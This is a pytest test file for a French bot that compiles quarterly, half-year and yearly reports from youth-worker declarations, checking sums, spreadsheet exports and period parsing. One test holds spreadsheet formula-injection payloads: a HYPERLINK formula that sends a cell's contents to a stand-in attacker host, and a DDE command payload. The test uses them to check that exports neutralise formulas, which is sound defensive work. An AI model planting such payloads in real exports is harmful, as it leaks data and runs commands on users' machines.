"""Quarterly and annual reports: the figures are the sums of the declarations."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import Session

from bot.cli import main
from bot.declarations.export import (
    BY_QUARTER_SHEET,
    PersonInfo,
    by_group,
    by_quarter,
    summary_text,
    synthesis,
    table,
    to_csv,
    to_xlsx,
)
from bot.declarations.report import Period, Report, build_report, load_rows, parse_period
from bot.declarations.weeks import Quarter, Week
from bot.storage.database import make_engine, upgrade
from bot.storage.models import Declaration

TODAY = dt.date(2026, 11, 22)


def _declarations(count: int, seed: int = 3) -> list[Declaration]:
    rng = random.Random(seed)
    weeks = [w for w in Quarter(2026, 4).weeks() if w < Week.of(TODAY)]
    result = []
    for person in range(count):
        for week in rng.sample(weeks, rng.randint(1, len(weeks))):
            result.append(
                Declaration(
                    user_id=f"@p{person}:test",
                    week=str(week),
                    inactive=rng.random() < 0.1,
                    hours=rng.choice([0.5, 1.0, 2.5, 4.0]),
                    networks=rng.sample(["Instagram", "Snapchat", "Discord"], 2),
                    young_people=rng.randint(0, 20),
                    short_contacts=rng.randint(0, 9),
                    age_groups={"15-17 ans": rng.randint(0, 5)},
                    young_friends=rng.randint(50, 400) if rng.random() < 0.3 else None,
                    interactions={"échanges simples": rng.randint(1, 5)},
                    topics=rng.sample(["Mal-être", "Alcool", "Fugue"], 1),
                    referrals={"3018": rng.randint(0, 2)} if rng.random() < 0.5 else {},
                )
            )
    return result


@pytest.fixture
def database(database_url: str) -> str:
    url = database_url
    upgrade(url)
    with Session(make_engine(url)) as session:
        session.add_all(_declarations(6))
        session.commit()
    return url


def test_report_figures_are_the_sums_of_the_declarations(database: str) -> None:
    with Session(make_engine(database)) as session:
        rows = load_rows(session, [str(w) for w in Period(2026, 4).weeks()])
    ended = [w for w in Period(2026, 4).weeks() if w < Week.of(TODAY)]
    report = build_report(Period(2026, 4), rows, TODAY, {"@absent:test": ended})
    active = [r for r in rows if not r["inactive"]]

    assert report.network.weeks_declared == len(rows)
    assert report.network.hours == pytest.approx(sum(r["hours"] for r in active))
    assert report.network.young_people == sum(r["young_people"] for r in active)
    assert report.network.referrals["3018"] == sum(r["referrals"].get("3018", 0) for r in active)
    camille = next(t for t in report.promeneurs if t.name == "@p0:test")
    assert camille.hours == pytest.approx(
        sum(r["hours"] for r in active if r["user_id"] == "@p0:test")
    )
    absent = next(t for t in report.promeneurs if t.name == "@absent:test")
    assert (absent.weeks_declared, absent.weeks_expected) == (0, len(report.expected))
    assert "Déclarations incomplètes" in summary_text(report)


def test_csv_has_one_row_per_promeneur_and_a_total(database: str) -> None:
    with Session(make_engine(database)) as session:
        rows = load_rows(session, [str(w) for w in Period(2026, 4).weeks()])
    report = build_report(Period(2026, 4), rows, TODAY)
    lines = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")), delimiter=";"))

    assert [[_as_french_spreadsheet_reads(c) for c in line] for line in lines] == [
        [float(cell) if isinstance(cell, int | float) else cell for cell in row]
        for row in table(report)
    ]
    assert len(lines) == 1 + 6 + 1
    assert lines[-1][0] == "Réseau (total)"
    assert to_xlsx(report)[:2] == b"PK"  # a zip: the xlsx container


def _as_french_spreadsheet_reads(cell: str) -> object:
    """A CSV cell as LibreOffice or Excel with French settings reads it: `6,5` and `12` are
    numbers, `6.5` is text."""
    return float(cell.replace(",", ".")) if re.fullmatch(r"-?\d+(,\d+)?", cell) else cell


def test_spreadsheets_follow_french_conventions() -> None:
    first = {d.user_id: d for d in reversed(_declarations(2))}  # one week each
    declarations = list(first.values())
    for declaration in declarations:
        declaration.inactive, declaration.hours = False, 2.25
    declarations[0].topics, declarations[1].topics = ["Sexualité"], ["Écrans"]
    report = build_report(Period(2026, 4), [d.model_dump() for d in declarations], TODAY)

    lines = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")), delimiter=";"))
    header, hours = lines[0], lines[0].index("Heures")
    assert [line[hours] for line in lines[1:]] == ["2,25", "2,25", "4,5"]  # not "2.25"
    assert all(isinstance(_as_french_spreadsheet_reads(line[hours]), float) for line in lines[1:])
    topics = [name for name in header if name.startswith("Thématique")]
    assert topics.index("Thématique : Écrans (semaines)") < topics.index(
        "Thématique : Sexualité (semaines)"
    )

    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    by_person = next(s for s in sheets if "Réseau" in s or "<autoFilter" in s)
    assert all('ySplit="1"' in s and 'state="frozen"' in s for s in sheets)  # header in view
    assert all("<cols>" in s for s in sheets)  # widths fitted to the content
    assert "<autoFilter" in by_person


@pytest.mark.parametrize(
    ("text", "period"),
    [("T4 2026", Period(2026, 4)), ("2026-Q1", Period(2026, 1)), ("2025", Period(2025))],
)
def test_periods_are_read_in_french_or_iso(text: str, period: Period) -> None:
    assert parse_period(text) == period


def test_year_has_every_week_of_its_quarters() -> None:
    assert len(Period(2026).weeks()) == 53
    assert len(Period(2025).weeks()) == 52


def _config(tmp_path: Path, database: str) -> Path:
    """A configuration for the offline report command on `database`."""
    config = tmp_path / "config.toml"
    config.write_text(
        f'[homeserver]\nurl = "http://127.0.0.1:1"\n[bot]\nuser_id = "@b:x"\npassword = "x"\n'
        f'[network]\ncoordinators = ["@c:x"]\n[storage]\ndatabase_url = "{database}"\n',
        encoding="utf-8",
    )
    return config


def test_report_command_line_writes_the_four_files(
    database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = _config(tmp_path, database)
    out = tmp_path / "out"
    assert main(["report", "--quarter", "2026-Q4", "--out", str(out), "-c", str(config)]) == 0
    printed = capsys.readouterr().out

    assert printed.startswith("Bilan T4 2026 : 6 promeneur(s)")
    names = sorted(p.name for p in out.iterdir())
    assert names == [
        "bilan-pdn-2026-Q4.csv", "bilan-pdn-2026-Q4.pdf", "bilan-pdn-2026-Q4.png",
        "bilan-pdn-2026-Q4.xlsx",
    ]  # fmt: skip
    assert (out / "bilan-pdn-2026-Q4.png").read_bytes()[:4] == b"\x89PNG"
    assert (out / "bilan-pdn-2026-Q4.pdf").read_bytes()[:5] == b"%PDF-"


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'


def test_text_people_typed_never_becomes_a_formula_in_an_export() -> None:
    declaration = _declarations(1)[0]
    declaration.topics = [HOSTILE]
    declaration.networks = ["+cmd|' /C calc'!A0"]
    declaration.remark = "-2+3"
    rows = [declaration.model_dump()]
    report = build_report(Period(2026, 4), rows, TODAY)

    cells = [c for line in csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")),
                                      delimiter=";") for c in line]  # fmt: skip
    assert not [c for c in cells if c.startswith(("=", "+", "-"))]
    assert cells[0] == "Promeneur" and "@p0:test" in cells  # a Matrix ID is left as it is

    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        shared = book.read("xl/sharedStrings.xml").decode()
    assert sheets and not [s for s in sheets if "<f>" in s]  # no cell holds a formula
    assert "HYPERLINK" in shared  # the text is there, as text


PEOPLE = {
    "@p0:test": PersonInfo("Camille Martin", "MJC de Châteauroux", "jeunesse"),
    "@p1:test": PersonInfo("Alex Durand", "Centre social Issoudun", "parentalité"),
}


QUARTER = Period(2026, 4)


def _small_report(period: Period = QUARTER, today: dt.date = TODAY) -> Report:
    """Three promeneurs, one week each; @p2 is not in PEOPLE."""
    first = {d.user_id: d for d in reversed(_declarations(3))}
    rows = [d.model_dump() for d in first.values()]
    for row in rows:
        row["inactive"], row["topics"] = False, ["Alcool"]
    return build_report(period, rows, today)


def test_promeneurs_are_shown_by_name_structure_and_type_of_pdn() -> None:
    rows = table(_small_report(), people=PEOPLE)

    assert rows[0][:4] == ["Promeneur", "Structure", "Type de PdN", "Semaines déclarées"]
    assert [row[:3] for row in rows[1:]] == [
        ["Alex Durand", "Centre social Issoudun", "parentalité"],
        ["Camille Martin", "MJC de Châteauroux", "jeunesse"],
        ["@p2:test", "", ""],  # unknown to the directory: the Matrix ID, after those named
        ["Réseau (total)", "", ""],
    ]
    lines = list(csv.reader(io.StringIO(to_csv(_small_report(), PEOPLE).decode("utf-8-sig")),
                            delimiter=";"))  # fmt: skip
    assert lines[2][:3] == ["Camille Martin", "MJC de Châteauroux", "jeunesse"]
    assert "Camille Martin" not in "".join(map(str, table(_small_report())))  # IDs by default
    with zipfile.ZipFile(io.BytesIO(to_xlsx(_small_report(), PEOPLE))) as book:
        shared = book.read("xl/sharedStrings.xml").decode()
    assert "Camille Martin" in shared and "@p0:test" in shared  # the detail keeps the ID


def test_listed_categories_keep_their_column_and_order_even_at_zero() -> None:
    report = _small_report()
    columns = {"topics": ["Mal-être", "Cyberharcèlement"], "interactions": ["demandes de conseil"]}
    header, *rows = table(report, columns=columns)

    topics = [name for name in header if name.startswith("Thématique")]
    assert topics == [
        "Thématique : Mal-être (semaines)",
        "Thématique : Cyberharcèlement (semaines)",
        "Thématique : Alcool (semaines)",  # found in the data, after the listed ones
    ]
    zero = header.index("Thématique : Cyberharcèlement (semaines)")
    assert [row[zero] for row in rows] == [0, 0, 0, 0]
    interactions = [name for name in header if name.startswith("Type d'interactions")]
    assert interactions == [
        "Type d'interactions : demandes de conseil (nombre)",
        "Type d'interactions : échanges simples (nombre)",
    ]
    assert not [name for name in table(report)[0] if "Cyberharcèlement" in name]  # as before
    with pytest.raises(ValueError, match="sujets"):
        table(report, columns={"sujets": ["Alcool"]})


def test_summary_speaks_the_cafs_words_and_agrees_in_gender() -> None:
    report = _small_report()
    report.network.topics.clear()
    report.network.referrals.clear()
    report.network.age_groups.clear()
    report.network.networks.clear()
    text = summary_text(report)

    assert "• Types d'interactions : échanges simples" in text
    assert "• Thématiques les plus abordées (semaines) : aucune" in text
    assert "• Orientations : aucune" in text
    assert "• Tranches d'âge (jeunes) : aucune" in text
    assert "• Réseaux sociaux utilisés (semaines) : aucun" in text
    assert "Sujets" not in text and "Types d'échanges" not in text


def test_summary_names_late_promeneurs_by_name() -> None:
    ended = [w for w in Period(2026, 4).weeks() if w < Week.of(TODAY)]
    report = build_report(Period(2026, 4), [], TODAY, {"@p0:test": ended})

    assert "Camille Martin (0/" in summary_text(report, PEOPLE)
    assert "@p0:test (0/" in summary_text(report)


def test_a_year_report_has_a_sheet_by_quarter_summing_to_the_year() -> None:
    rows = []
    for number, declaration in enumerate(_declarations(3)):
        row = declaration.model_dump()
        row["week"] = str(Week(2026, 1 + (number * 5) % 52))  # spread over the year
        rows.append(row)
    report = build_report(Period(2026), rows, dt.date(2027, 1, 10))
    sheet = by_quarter(report, PEOPLE)

    header, *people, network = sheet
    assert header == [
        "Promeneur", "Structure", "Type de PdN",
        "Amis jeunes du profil : T1", "Amis jeunes du profil : T2",
        "Amis jeunes du profil : T3", "Amis jeunes du profil : T4",
        "Amis jeunes du profil : Total",
        "Heures : T1", "Heures : T2", "Heures : T3", "Heures : T4", "Heures : Total",
        "Jeunes en contact : T1", "Jeunes en contact : T2", "Jeunes en contact : T3",
        "Jeunes en contact : T4", "Jeunes en contact : Total",
    ]  # fmt: skip
    assert [row[0] for row in people] == ["Alex Durand", "Camille Martin", "@p2:test"]
    assert network[0] == "Réseau (total)"
    assert network[12] == pytest.approx(report.network.hours)
    assert sum(network[8:12]) == pytest.approx(report.network.hours)
    assert all(0 < value < report.network.hours for value in network[8:12])  # all four have some
    assert network[17] == sum(network[13:17]) == report.network.young_people
    camille = next(t for t in report.promeneurs if t.name == "@p0:test")
    assert people[1][12] == pytest.approx(camille.hours)
    assert _sums([row[3:] for row in people]) == pytest.approx(_zeros(network[3:]))

    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
        assert f'name="{BY_QUARTER_SHEET}"' in book.read("xl/workbook.xml").decode()
    with zipfile.ZipFile(io.BytesIO(to_xlsx(_small_report()))) as book:
        assert BY_QUARTER_SHEET not in book.read("xl/workbook.xml").decode()  # a quarter


def test_workbook_sheets_are_named_in_the_cafs_words() -> None:
    with zipfile.ZipFile(io.BytesIO(to_xlsx(_small_report()))) as book:
        workbook = book.read("xl/workbook.xml").decode()
    names = re.findall(r'<sheet name="([^"]+)"', workbook)
    for name in ("Réseaux sociaux", "Tranches d'âge", "Types d'interactions",
                 "Thématiques", "Orientations"):  # fmt: skip
        assert name in names, names
    assert "Sujets" not in names and "Échanges" not in names


def test_chart_is_a_png_for_a_quarter_and_for_a_year() -> None:
    from bot.declarations.chart import chart_png

    assert chart_png(_small_report())[:4] == b"\x89PNG"
    assert chart_png(_small_report(Period(2026), dt.date(2027, 1, 10)))[:4] == b"\x89PNG"
    assert chart_png(build_report(Period(2026, 4), [], TODAY))[:4] == b"\x89PNG"  # empty


@pytest.mark.parametrize(
    "text",
    ["S1 2026", "s1 2026", "2026-S1", "2026 S1", "S1-2026", "1er semestre 2026",
     "1ER SEMESTRE 2026", "premier semestre 2026", "semestre 1 2026", "1re semestre 2026"],
)  # fmt: skip
def test_first_half_year_is_read_in_french_or_iso(text: str) -> None:
    assert parse_period(text) == Period(2026, half=1)


@pytest.mark.parametrize(
    "text",
    ["S2 2026", "2026-S2", "2e semestre 2026", "2ème semestre 2026", "2eme Semestre 2026",
     "deuxième semestre 2026", "second semestre 2026"],
)  # fmt: skip
def test_second_half_year_is_read_in_french_or_iso(text: str) -> None:
    assert parse_period(text) == Period(2026, half=2)


@pytest.mark.parametrize(
    ("text", "period"),
    [("T4 2026", Period(2026, 4)), ("2026-Q4", Period(2026, 4)), ("2026 T4", Period(2026, 4)),
     ("4e trimestre 2026", Period(2026, 4)), ("T4-2026", Period(2026, 4)),
     ("2026", Period(2026))],
)  # fmt: skip
def test_quarters_and_years_still_read_as_before(text: str, period: Period) -> None:
    parsed = parse_period(text)
    assert parsed == period and parsed.half is None
    assert (parsed.label, parsed.slug) == (
        (f"T{period.quarter} 2026", "2026-Q4") if period.quarter else ("2026", "2026")
    )


def test_a_half_year_without_a_year_is_the_latest_one_begun() -> None:
    assert parse_period("2e semestre", dt.date(2027, 1, 10)) == Period(2026, half=2)
    assert parse_period("S2", dt.date(2026, 8, 1)) == Period(2026, half=2)
    assert parse_period("S1", dt.date(2026, 8, 1)) == Period(2026, half=1)


@pytest.mark.parametrize("text", ["S3 2026", "3e semestre 2026", "semestre 2026", "T5 2026"])
def test_periods_that_do_not_exist_are_refused(text: str) -> None:
    from bot.text.errors import UserError

    with pytest.raises(UserError):
        parse_period(text)


def test_a_half_year_is_its_two_quarters() -> None:
    first, second = Period(2026, half=1), Period(2026, half=2)

    assert first.weeks() == Quarter(2026, 1).weeks() + Quarter(2026, 2).weeks()
    assert second.weeks() == Quarter(2026, 3).weeks() + Quarter(2026, 4).weeks()
    assert first.weeks() + second.weeks() == Period(2026).weeks()
    assert (first.label, first.slug) == ("1er semestre 2026", "2026-S1")
    assert (second.label, second.slug) == ("2e semestre 2026", "2026-S2")
    assert len({Period(2026), Period(2026, 2), first, second}) == 4  # hashable, all distinct
    with pytest.raises(ValueError):
        Period(2026, 1, 1)


def _half_year_report() -> Report:
    rows = []
    for number, declaration in enumerate(_declarations(3)):
        row = declaration.model_dump()
        row["inactive"] = False
        row["week"] = str(Week(2026, 27 + (number * 5) % 26))  # spread over S2
        rows.append(row)
    return build_report(Period(2026, half=2), rows, dt.date(2027, 1, 10))


def test_a_half_year_report_has_its_two_quarters_by_quarter() -> None:
    report = _half_year_report()
    header, *_, network = by_quarter(report, PEOPLE)

    assert header[3:] == [
        "Amis jeunes du profil : T3", "Amis jeunes du profil : T4",
        "Amis jeunes du profil : Total",
        "Heures : T3", "Heures : T4", "Heures : Total",
        "Jeunes en contact : T3", "Jeunes en contact : T4", "Jeunes en contact : Total",
    ]  # fmt: skip
    assert network[8] == pytest.approx(report.network.hours) == pytest.approx(sum(network[6:8]))
    assert network[11] == sum(network[9:11]) == report.network.young_people
    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
        assert f'name="{BY_QUARTER_SHEET}"' in book.read("xl/workbook.xml").decode()


def test_young_friends_are_the_latest_answer_of_each_quarter_not_a_sum() -> None:
    def row(user: str, week: int, friends: int | None) -> dict[str, Any]:
        declaration = Declaration(user_id=user, week=str(Week(2026, week)), young_friends=friends)
        return declaration.model_dump()

    rows = [
        row("@p0:test", 2, 100), row("@p0:test", 5, 120),  # T1: 120, the later answer
        row("@p0:test", 30, 150), row("@p0:test", 31, None),  # T3: 150
        row("@p1:test", 3, 40),  # T1 only
    ]  # fmt: skip
    report = build_report(Period(2026), rows, dt.date(2027, 1, 10))
    header, *people, network = by_quarter(report)
    friends = header.index("Amis jeunes du profil : T1")
    by_name = {line[0]: line[friends : friends + 5] for line in people}
    assert by_name["@p0:test"] == [120, "", 150, "", 150]  # total: the latest of the year
    assert by_name["@p1:test"] == [40, "", "", "", 40]
    assert network[friends : friends + 5] == [160, "", 150, "", 190]
    assert report.network.young_friends == 190


def _sums(rows: list[list[Any]]) -> list[Any]:
    """Column sums; an empty cell (young friends nobody gave) adds nothing."""
    return [sum(cell or 0 for cell in column) for column in zip(*rows, strict=True)]


def _zeros(row: list[Any]) -> list[Any]:
    return [cell or 0 for cell in row]


def test_structures_and_types_sum_their_promeneurs_and_the_total_is_the_network() -> None:
    people = {
        **PEOPLE,
        "@p2:test": PersonInfo("Sam Petit", "MJC de Châteauroux", "parentalité"),
        "@p4:test": PersonInfo("Lou Blanc", "", "jeunesse"),  # no structure in the directory
    }
    with_unknown = {k: v for k, v in people.items() if k != "@p3:test"}
    report = build_report(QUARTER, [d.model_dump() for d in _declarations(6)], TODAY)
    per_person = {row[0]: row[3:] for row in table(report, with_unknown)[1:]}
    by_name = {t.name: _name(t.name) for t in report.promeneurs}
    for key, column, unknown in (
        ("structure", 1, "(structure inconnue)"),
        ("pdn_type", 2, "(type inconnu)"),
    ):
        header, *groups, network = by_group(report, with_unknown, key)
        person_header = table(report, with_unknown)[0]
        assert header == [person_header[column], "Promeneurs", *person_header[3:]]
        members: dict[str, list[str]] = {}
        for totals in report.promeneurs:
            info = with_unknown.get(totals.name)
            group = (info.structure if key == "structure" else info.pdn_type) if info else ""
            members.setdefault(group or unknown, []).append(by_name[totals.name])
        for row in groups:
            names = members.get(row[0], [])
            assert row[1] == len(names), row[0]
            if names:
                assert _zeros(row[2:]) == pytest.approx(_sums([per_person[n] for n in names]))
        assert [row[0] for row in groups][-1] == unknown  # unknown last
        assert network[:2] == ["Réseau (total)", len(report.promeneurs)]
        assert network[2:] == per_person["Réseau (total)"]
        assert _zeros(network[2:]) == pytest.approx(_sums([row[2:] for row in groups]))
    types = [row[0] for row in by_group(report, with_unknown, "pdn_type")[1:-1]]
    assert types == ["jeunesse", "parentalité", "(type inconnu)"]
    structures = [row[0] for row in by_group(report, with_unknown, "structure")[1:-1]]
    assert structures == [
        "Centre social Issoudun", "MJC de Châteauroux", "(structure inconnue)"
    ]  # fmt: skip


def _name(user_id: str) -> str:
    names = {
        "@p0:test": "Camille Martin",
        "@p1:test": "Alex Durand",
        "@p2:test": "Sam Petit",
        "@p4:test": "Lou Blanc",
    }
    return names.get(user_id, user_id)


def test_departmental_synthesis_gives_the_networks_figures_in_the_cafs_order() -> None:
    report = build_report(QUARTER, [d.model_dump() for d in _declarations(6)], TODAY)
    header, *fields = synthesis(report, {"age_groups": ["11-14 ans", "15-17 ans"]})
    values = dict(fields)

    assert header == ["Champ", "Bilan T4 2026"]
    assert [name for name, _ in fields] == [
        "Nombre de promeneurs", "Heures réalisées sur le net", "Réseaux sociaux utilisés",
        "Nombre d'amis jeunes (profils des promeneurs, dernier chiffre)",
        "Nombre de jeunes en contact (somme des semaines)", "Nombre de contacts courts",
        "Profil des jeunes contactés (âge)", "Type d'interactions", "Thématiques abordées",
        "Orientations",
    ]  # fmt: skip
    net = report.network
    assert values["Nombre de promeneurs"] == 6
    assert values["Heures réalisées sur le net"] == pytest.approx(net.hours)
    assert values["Nombre de jeunes en contact (somme des semaines)"] == net.young_people
    # each promeneur's latest answer in the quarter, summed
    latest: dict[str, int] = {}
    for declaration in sorted(_declarations(6), key=lambda d: d.week):
        if declaration.young_friends is not None:
            latest[declaration.user_id] = declaration.young_friends
    assert values["Nombre d'amis jeunes (profils des promeneurs, dernier chiffre)"] == sum(
        latest.values()
    )
    assert values["Nombre de contacts courts"] == net.short_contacts
    assert values["Réseaux sociaux utilisés"] == " ; ".join(
        f"{k} : {net.networks[k]} semaines" for k in ("Discord", "Instagram", "Snapchat")
    )
    assert values["Profil des jeunes contactés (âge)"] == (
        f"11-14 ans : 0 jeunes ; 15-17 ans : {net.age_groups['15-17 ans']} jeunes"
    )  # listed brackets keep their place, zero included
    assert (
        values["Type d'interactions"]
        == f"échanges simples : {net.interactions['échanges simples']}"
    )
    assert values["Orientations"] == f"3018 : {net.referrals['3018']}"
    assert all(
        isinstance(value, int | float)
        for name, value in fields
        if name.startswith(("Nombre", "Heures"))
    )
    empty = dict(synthesis(build_report(QUARTER, [], TODAY))[1:])
    assert (empty["Thématiques abordées"], empty["Réseaux sociaux utilisés"]) == ("aucune", "aucun")


def test_workbook_has_sheets_per_structure_per_type_and_a_departmental_synthesis() -> None:
    def names(data: bytes) -> list[str]:
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            workbook = book.read("xl/workbook.xml").decode()
        return re.findall(r'<sheet name="([^"]+)"', workbook)

    given = names(to_xlsx(_small_report(), PEOPLE))
    for name in ("Par structure", "Par type de PdN", "Synthèse départementale"):
        assert name in given, given
    assert given.index("Par promeneur") < given.index("Par structure")
    without = names(to_xlsx(_small_report()))
    assert "Par structure" not in without and "Par type de PdN" not in without
    assert "Synthèse départementale" in without


def test_report_command_line_writes_a_half_year(
    database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = _config(tmp_path, database)
    out = tmp_path / "out"
    assert main(["report", "--half", "S2-2026", "--out", str(out), "-c", str(config)]) == 0
    assert capsys.readouterr().out.startswith("Bilan 2e semestre 2026 : 6 promeneur(s)")
    assert sorted(p.name for p in out.iterdir())[0] == "bilan-pdn-2026-S2.csv"
    assert main(["report", "--half", "T4-2026", "--out", str(out), "-c", str(config)]) == 2


def test_a_half_year_chart_shows_its_own_two_quarters() -> None:
    from bot.declarations.chart import _over_time

    rows = [d.model_dump() for d in _declarations(2)]  # weeks of T4 2026
    unit, labels, hours, _ = _over_time(build_report(Period(2026, None, 2), rows, TODAY))

    assert (unit, labels) == ("trimestre", ["T3", "T4"])
    assert hours[1] == pytest.approx(sum(r["hours"] for r in rows if not r["inactive"]))
